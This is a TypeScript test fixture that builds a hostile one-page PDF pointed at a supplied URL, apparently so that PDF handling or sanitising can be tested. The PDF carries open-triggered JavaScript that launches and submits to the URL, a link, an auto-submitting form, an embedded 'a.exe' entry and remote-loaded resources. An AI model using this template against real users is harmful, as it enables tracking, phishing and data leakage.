import { concat, encodeText } from '../../../crypto/encoding.ts';

/**
 * A PDF of one page with a line of text in a font that it does not bring along, and with all that a hostile one would try
 * against `url`: a script that runs on opening, a link, a picture from elsewhere, a form that sends itself, a file within.
 */
export function hostilePdf(url: string): Uint8Array {
  const text = 'BT /F1 36 Tf 20 100 Td (Read me.) Tj ET /Im1 Do';
  const script = `app.alert('taken'); app.launchURL('${url}/launch', true); this.submitForm('${url}/script');`;
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm 7 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [8 0 R 9 0 R] /AA << /O 6 0 R >> /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 11 0 R >> >> >>',
    `<< /Length ${String(text.length)} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) /Next << /S /URI /URI (${url}/next) >> >>`,
    '<< /Fields [9 0 R] /NeedAppearances true >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${url}/link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (${url}/form) >> >>`,
    `<< /Type /Filespec /FS /URL /F (${url}/file) >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${url}/picture) >> /Length 0 >>\nstream\n\nendstream`,
  ]);
}

function pdf(objects: readonly string[]): Uint8Array {
  const parts = ['%PDF-1.7\n'];
  const places: number[] = [];
  for (const [index, object] of objects.entries()) {
    places.push(parts.join('').length);
    parts.push(`${String(index + 1)} 0 obj\n${object}\nendobj\n`);
  }
  const start = parts.join('').length;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`);
  const count = String(objects.length + 1);
  const table = `xref\n0 ${count}\n0000000000 65535 f \n${rows.join('')}`;
  const trailer = `trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${String(start)}\n%%EOF\n`;
  return concat(...[...parts, table, trailer].map((part) => encodeText(part)));
}
